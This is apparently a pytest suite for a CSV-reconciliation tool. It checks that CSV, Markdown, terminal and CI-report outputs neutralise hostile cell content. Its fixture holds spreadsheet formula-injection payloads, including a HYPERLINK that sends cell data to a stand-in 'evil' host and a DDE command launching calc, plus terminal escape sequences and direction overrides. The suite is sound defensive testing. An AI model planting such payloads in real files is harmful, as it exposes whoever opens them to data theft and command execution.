"""Output that is safe to open (issue 8): CSV without live formulas, Markdown without markup,
terminals without escape sequences or rich markup, whatever the claims file says."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest

from reconcile.render.markdown import escape
from reconcile.render.safe import defuse, defuse_frame, printable

HOSTILE = (
    "incident,source,figure,date,perpetrator,place,published\n"
    'x,=HYPERLINK("http://evil/?"&A1),5,2025-03-07,@SUM(A1:A9),"+cmd|\' /C calc\'!A0",2025-03-08\n'
    "x,[red]SNHR[/] \x1b[2J\x1b]0;owned\x07,7,2025-03-07,[/],\u202e007,2025-03-08\n"
    "x,SOHR,12,2025-03-07,\t-1+2,:fire: **bold** <b>x</b> | [l](http://e) # &amp;,2025-03-08\n"
)


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("\uff1d1+2", "'\uff1d1+2"),
        ("-7", "-7"), ("+1.5", "+1.5"), ("-1,000", "-1,000"), ("1e3", "1e3"), ("SOHR", "SOHR"), ("", ""),
    ],
)
def test_defuse_prefixes_formulas_only(cell, safe):
    assert defuse(cell) == safe


def test_defuse_frame_leaves_numbers_alone():
    frame = pd.DataFrame({"text": ["=1", "-5", "ok"], "best": [-5.0, 1.0, 2.0], "=name": ["a", "b", "c"]})
    safe = defuse_frame(frame)
    assert safe["text"].tolist() == ["'=1", "-5", "ok"]
    assert safe["best"].tolist() == [-5.0, 1.0, 2.0] and safe["best"].dtype == float
    assert list(safe.columns) == ["text", "best", "'=name"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "command",
    [["compare", "h.csv", "--format", "csv"], ["normalise", "h.csv", "--format", "csv"],
     ["actors", "h.csv", "--format", "csv"]],
    ids=["compare", "normalise", "actors"],
)
def test_csv_outputs_defuse_formulas_unless_raw(here, cli, write, command):
    write("h.csv", HOSTILE)
    result = cli(*command)
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout)
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or (c[:1] in "+-" and c.lstrip("+-")[:1] not in
                                                                           "0123456789")]
    assert "'" + '=HYPERLINK("http://evil/?"&A1)' in cells or command[0] == "actors"
    raw = cli(*command, "--raw")
    assert any(c.startswith(("=", "@", "+", "\t")) for c in _cells(raw.stdout))


def test_negative_numbers_stay_numbers_in_csv(here, cli, write):
    write("h.csv", "source,figure,date,change\nA,5,2025-03-07,-3\n")
    (row,) = csv.DictReader(io.StringIO(cli("normalise", "h.csv", "--format", "csv").stdout))
    assert row["change"] == "-3"


def test_rejected_file_is_defused_too(here, cli, write):
    write("h.csv", "source,figure,date\n=cmd,-1+2,2025-03-07\n")
    assert cli("compare", "h.csv", "--rejected", "rej.csv").exit_code == 0
    (row,) = csv.DictReader(io.StringIO((here / "rej.csv").read_text(encoding="utf-8")))
    assert (row["source"], row["figure"]) == ("'=cmd", "'-1+2")


def test_printable_strips_escapes_controls_and_direction_overrides():
    assert printable("a\x1b[31mred\x1b[0m\x1b]0;title\x07 b\x00c\x7f\x9b") == "ared bc"
    assert printable("\u202e007") == "007"
    assert printable("two\nlines\tand\rmore") == "two lines and more"
    assert printable("اللاذقية\u200f") == "اللاذقية\u200f"  # a right-to-left mark is text, kept


def test_terminal_table_prints_markup_literally_and_no_escapes(here, cli, write):
    write("h.csv", HOSTILE)
    result = cli("compare", "h.csv")
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "[red]SNHR[/]" in out and ":fire:" in out and "🔥" not in out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    actors = cli("actors", "h.csv").stdout
    assert "[/]" in actors and "\x1b" not in actors and "\u202e" not in actors


def test_frame_tables_do_not_interpret_markup(here, cli, write):
    write("h.csv", "source,figure,date,perpetrator\nA,5,2025-03-07,[/]\nB,6,2025-03-07,[bold]x\n")
    result = cli("actors", "h.csv")
    assert result.exit_code == 0, result.stderr
    assert "[/]" in result.stdout and "[bold]x" in result.stdout


def test_stderr_messages_are_sanitised(here, cli, write):
    write("h.csv", "source,figure,date\n\x1b[2JA,many\x1b]0;x\x07,2025-03-07\n")
    result = cli("compare", "h.csv")
    assert "rejected h.csv:2" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    write("e.csv", "who\x1b[31m,what\nA,1\n")
    error = cli("compare", "e.csv")
    assert error.exit_code == 2 and "\x1b" not in error.stderr


def test_markdown_escapes_user_text(here, cli, write):
    assert escape("# <b>x</b> [l](u) `c` *e* _u_ | ~s~ &amp;") == (
        r"\# \<b\>x\</b\> \[l\](u) \`c\` \*e\* \_u\_ \| \~s\~ \&amp;"
    )
    write("h.csv", HOSTILE)
    out = cli("compare", "h.csv", "--format", "markdown").stdout
    assert "<b>" not in out and "[l](" not in out and "\x1b" not in out
    pipes = {len(re.findall(r"(?<!\\)\|", line)) for line in out.splitlines() if line.startswith("|")}
    assert len(pipes) == 1  # every row of the table has as many cells as its header: no cell broke out


def test_json_keeps_user_text_exactly(here, cli, write):
    write("h.csv", HOSTILE)
    doc = json.loads(cli("compare", "h.csv", "--format", "json").stdout)
    sources = {c["source"] for g in doc["groups"] for c in g["claims"]}
    assert '=HYPERLINK("http://evil/?"&A1)' in sources


@pytest.mark.parametrize("fmt", ["junit", "github"])
def test_ci_reports_carry_no_control_characters(here, cli, write, fmt):
    write("h.csv", HOSTILE.replace("[/],", "\x01\x1b[31m,"))
    result = cli("compare", "h.csv", "--format", fmt, "--fail-on", "single-source")
    assert result.exit_code == 1, result.stderr
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", result.stdout)
    if fmt == "junit":
        import xml.etree.ElementTree as ET

        ET.fromstring(result.stdout.split("\n", 1)[1])
